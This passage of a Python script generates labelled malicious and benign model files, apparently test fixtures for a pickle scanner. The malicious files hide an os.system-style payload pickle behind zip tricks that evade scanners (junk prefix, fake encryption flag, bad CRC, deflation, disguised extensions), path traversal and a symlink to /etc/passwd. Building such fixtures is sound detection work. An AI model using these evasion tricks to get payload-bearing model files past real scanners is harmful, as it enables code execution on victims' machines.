      "512 bytes of junk, then a torch zip whose data.pkl is malicious; offsets are relative to the zip start (as 'cat junk a.zip' gives), which Python's zipfile tolerates.",
      bytes((i * 37 + 11) & 0xFF for i in range(512)) + torch_zip(bad_pkl), check="none",
      notes="torch.load does not open this as a zip (no PK at offset 0); loaders built on Python's zipfile do.")
    members = torch_zip_members(bad_pkl)
    members[0].local_flags = FLAG_ENCRYPTED
    M("zip_flag_encrypted_local.pt", "zip_flag_bits",
      "Encrypted bit set in data.pkl's local header only; the central directory says plain. Data is not encrypted.",
      build_zip(members), check="none")
    members = torch_zip_members(bad_pkl)
    members[0].flags = FLAG_ENCRYPTED
    M("zip_flag_encrypted.pt", "zip_flag_bits",
      "Encrypted bit set on data.pkl in both headers though the data is plain: Python asks for a password (CVE-2025-1945 class).",
      build_zip(members), check="none",
      notes="The advisory reports torch loads such files; whether a given torch build's miniz refuses the flag is not verified here.")
    members = torch_zip_members(bad_pkl)
    members[0].flags = FLAG_COMPRESSED_PATCH | 0x1000
    M("zip_flag_unusual_bits.pt", "zip_flag_bits",
      "data.pkl carries bit 5 (compressed patched data) and reserved bit 12: Python's zipfile raises NotImplementedError.",
      build_zip(members), check="none",
      notes="Uncertain whether torch reads it (miniz may refuse bit 5); the archive holds a malicious data.pkl.")
    members = torch_zip_members(bad_pkl)
    members[0].crc_override = 0x12345678
    M("zip_bad_crc.pt", "zip_bad_crc",
      "data.pkl's CRC-32 is wrong in both headers: Python raises 'Bad CRC-32' after reading; PyTorch does not check (CVE-2025-10156 class).",
      build_zip(members), check="none")
    members = torch_zip_members(bad_pkl)
    members.insert(0, Member("archive/README", b"modelvet", method=99))
    M("zip_bad_member_first.pt", "zip_bad_member",
      "An archive/README member with unknown compression method 99 before data.pkl: a scanner that aborts the archive on one bad member never reaches data.pkl.",
      build_zip(members), check="none")
    M("zip_deflated_data_pkl.pt", "zip_compression",
      "Malicious data.pkl stored deflated (fixed Huffman), so its opcodes are not visible in the raw file.",
      torch_zip(bad_pkl, data_pkl_method=DEFLATED), check="none")
    M("pytorch_model.bin", "zip_extension_disguise",
      "A torch zip with a malicious data.pkl under the Hugging Face name pytorch_model.bin.",
      torch_zip(bad_pkl), check="none")
    M("disguised_extension.safetensors", "zip_extension_disguise",
      "A plain protocol 2 os.system pickle named .safetensors: torch.load(path) does not care about the name.",
      payload_pickle_p2("os", "system"))
    inner_zip = torch_zip(bad_pkl)
    M("nested_zip_in_zip.zip", "zip_nested",
      "A zip holding model.pt, itself a torch zip with a malicious data.pkl.",
      build_zip([Member("model.pt", inner_zip), Member("README.txt", b"modelvet fixture\n")]), check="none")
    members = torch_zip_members(benign_pkl)
    members.insert(1, Member("archive/../../../tmp/modelvet-fixture.pkl", INNER_PAYLOAD))
    M("zip_path_traversal.pt", "zip_path_traversal",
      "A member named archive/../../../tmp/modelvet-fixture.pkl (a payload pickle): naive extraction writes outside the target directory.",
      build_zip(members), check="none")
    members = torch_zip_members(benign_pkl)
    members.insert(1, Member("archive/data/4", b"/etc/passwd", unix_mode=UNIX_SYMLINK_MODE))
    M("zip_symlink_member.pt", "zip_symlink",
      "archive/data/4 is a Unix symlink entry pointing at /etc/passwd: extraction that honours symlinks reads or overwrites outside the archive.",
      build_zip(members), check="none",
      notes="torch.load reads the member's bytes (the link text); the risk is for extracting tools.")


# ---------------------------------------------------------------------------
# Benign files
# ---------------------------------------------------------------------------
def benign() -> None:
    sd = state_dict_pickle()
    B("benign_state_dict_p2.pkl", "benign_state_dict",
      "torch.save-style state dict pickle: collections.OrderedDict, torch._utils._rebuild_tensor_v2, torch.FloatStorage persistent ids, BUILD of _metadata.",
      sd)
    B("benign_torch_zip.pt", "benign_torch_zip",
      "Torch-style zip: archive/data.pkl, byteorder, data/0..3 float32 storages, version; 64-byte aligned with FB extras.",
      torch_zip(sd), check="none")
    B("benign_torch_zip_deflated.pt", "benign_torch_zip",
      "Same archive with data.pkl deflated.",
      torch_zip(sd, data_pkl_method=DEFLATED), check="none")
    B("benign_torch_zip_custom_prefix.pt", "benign_torch_zip",
      "Same archive saved to a path: members under 'my_model/' instead of 'archive/'.",
      torch_zip(sd, prefix="my_model"), check="none")
    dtype = call(global_("numpy", "dtype"), binunicode("f4"), NEWFALSE, NEWTRUE) + binput(4)
    dtype_state = MARK + binint1(3) + binunicode("<") + NONE + NONE + NONE + binint(-1) + binint(-1) + binint1(0) + TUPLE
    array_bytes = bytes(range(24))
    numpy_p3 = (proto(3) + global_("numpy.core.multiarray", "_reconstruct") + binput(0)
                + global_("numpy", "ndarray") + binput(1) + binint1(0) + TUPLE1 + binput(2)
                + short_binbytes(b"b") + TUPLE3 + REDUCE + binput(3)
                + MARK + binint1(1) + binint1(2) + binint1(3) + TUPLE2 + dtype + dtype_state + BUILD
                + NEWFALSE + short_binbytes(array_bytes) + TUPLE + BUILD + STOP)
    B("benign_numpy_reconstruct_p3.pkl", "benign_numpy",
      "A float32 2x3 ndarray as numpy 1.x pickles it: numpy.core.multiarray._reconstruct, numpy.ndarray, numpy.dtype with its state tuple.",
      numpy_p3)
    B("benign_set_frozenset_p4.pkl", "benign_builtins",
      "Protocol 4 EMPTY_SET/ADDITEMS and FROZENSET opcodes inside a dict.",
      pickle.dumps({"labels": {7, 11, 13}, "frozen": frozenset({1, 2, 3})}, protocol=4))
    B("benign_builtin_set_p2.pkl", "benign_builtins",
      "Protocol 2 set and frozenset, written as __builtin__.set / __builtin__.frozenset calls.",
      pickle.dumps({"labels": {7, 11, 13}, "frozen": frozenset({1, 2, 3})}, protocol=2))
    plain = {"layer.weight": [0.5, -1.25, 2.0], "layer.bias": [0.0], "name": "modelvet", "step": 7,
             "flags": (True, False, None), "raw": b"\x00\x01modelvet"}
    for p in range(6):
        B(f"benign_dict_p{p}.pkl", "benign_protocol_variant",
          f"A plain dict of lists, str, int, tuple and bytes at protocol {p} (pickle.dumps of built-in values).",
          pickle.dumps(plain, protocol=p))
    B("benign_long_memo_p2.pkl", "benign_memo",
      "A list of 300 distinct strings at protocol 2: memo indices past 255 use LONG_BINPUT.",
      pickle.dumps([f"token_{i}" for i in range(300)], protocol=2))
    B("benign_stacked_pickles.pkl", "benign_stacked",
      "Two complete benign pickles back to back.",
      pickle.dumps({"epoch": 1}, protocol=2) + pickle.dumps([1.5, 2.5], protocol=4), check="none")
    B("benign_ordereddict_p4.pkl", "benign_state_dict",
      "collections.OrderedDict of floats at protocol 4 with STACK_GLOBAL and MEMOIZE, framed.",
      framed_p4(stack_global("collections", "OrderedDict") + MEMOIZE + EMPTY_TUPLE + REDUCE + MEMOIZE
                + MARK + sbu("alpha") + MEMOIZE + binfloat(0.5) + sbu("beta") + MEMOIZE + binfloat(1.5)
                + SETITEMS + STOP))
    B("benign_torch_legacy_stacked.pt", "benign_torch_legacy",
      "Non-zip torch.save layout (_use_new_zipfile_serialization=False): magic number, protocol 1001, sys_info, a state dict with 6-field storage persistent ids, storage keys, then raw float32 storages.",
      legacy_stacked(), check="none")
    rebuild = sbu("torch._utils") + MEMOIZE + sbu("_rebuild_tensor_v2") + MEMOIZE + STACK_GLOBAL + MEMOIZE
    again = binget(1) + binget(2) + STACK_GLOBAL  # slot 0 is the list, 1 and 2 the operands
    B("benign_stack_global_memo_operands_p4.pkl", "benign_memo",
      "Protocol 4 list of two torch._utils._rebuild_tensor_v2 references: the second STACK_GLOBAL takes both operands from the memo with BINGET (as joblib and torch at protocol 4 do).",
      p4(EMPTY_LIST + MEMOIZE + MARK + rebuild + again + APPENDS))
    B("benign_inst_ordereddict_p0.pkl", "benign_builtins",
      "Protocol 0 INST collections.OrderedDict with no arguments, then items via SETITEM.",
      MARK + inst("collections", "OrderedDict") + put0(0) + unicode0("alpha") + b"F0.5\n" + SETITEM + STOP)
    numpy_p2 = (proto(2) + global_("numpy.core.multiarray", "_reconstruct") + binput(0)
                + global_("numpy", "ndarray") + binput(1) + binint1(0) + TUPLE1 + binput(2)
                + call(global_("_codecs", "encode"), binunicode("b"), binunicode("latin1")) + binput(3)
                + TUPLE3 + REDUCE + binput(4)
                + MARK + binint1(1) + binint1(4) + TUPLE1 + call(global_("numpy", "dtype"), binunicode("u1"), NEWFALSE, NEWTRUE)
                + binput(5) + MARK + binint1(3) + binunicode("|") + NONE + NONE + NONE + binint(-1) + binint(-1)
                + binint1(0) + TUPLE + BUILD + NEWFALSE
                + call(global_("_codecs", "encode"), binunicode("\x00\x01\x02\x03"), binunicode("latin1"))
                + TUPLE + BUILD + STOP)
    B("benign_numpy_reconstruct_p2.pkl", "benign_numpy",
      "A uint8 array of 4 elements pickled at protocol 2, where bytes are written as _codecs.encode(text, 'latin1').",
      numpy_p2)
    part1 = EMPTY_DICT + MEMOIZE + MARK + sbu("epoch") + binint1(3)
    part2 = sbu("loss") + binfloat(0.125) + SETITEMS + STOP
    B("benign_frames_split_p4.pkl", "benign_protocol_variant",
      "A dict whose SETITEMS spans two FRAMEs (frames cut between opcodes).",
      proto(4) + frame(len(part1)) + part1 + frame(len(part2)) + part2)


def write_all() -> None:
    denylist_gaps()
    nested()
    traversal()
    memo_and_operands()
    call_forms()
    broken_and_stacked()
    protocols_and_frames()
    containers()
    benign()

    os.makedirs(OUT_DIR, exist_ok=True)
    total = 0
    for name in sorted(CONTENT):
        data = CONTENT[name]
        if len(data) >= MAX_FILE:
            raise SystemExit(f"{name} is {len(data)} bytes (limit {MAX_FILE})")
        total += len(data)
        CORPUS[name]["sha256"] = hashlib.sha256(data).hexdigest()
        CORPUS[name]["size"] = len(data)
        with open(os.path.join(OUT_DIR, name), "wb") as f:
            f.write(data)
    if total >= MAX_TOTAL:
        raise SystemExit(f"corpus is {total} bytes (limit {MAX_TOTAL})")
    keep = set(CONTENT) | {"MANIFEST.json"}
    for stale in sorted(set(os.listdir(OUT_DIR)) - keep):
        os.remove(os.path.join(OUT_DIR, stale))
    # One entry per line keeps the manifest small and its diffs readable.
    lines = [f"{json.dumps(k)}: {json.dumps(CORPUS[k], sort_keys=True)}" for k in sorted(CORPUS)]
    with open(os.path.join(OUT_DIR, "MANIFEST.json"), "w", encoding="utf-8") as f:
        f.write("{\n" + ",\n".join(lines) + "\n}\n")
    labels = [e["label"] for e in CORPUS.values()]
    print(f"wrote {len(CONTENT)} files ({labels.count('malicious')} malicious, "
          f"{labels.count('benign')} benign), {total} bytes, to {OUT_DIR}")


if __name__ == "__main__":
    write_all()
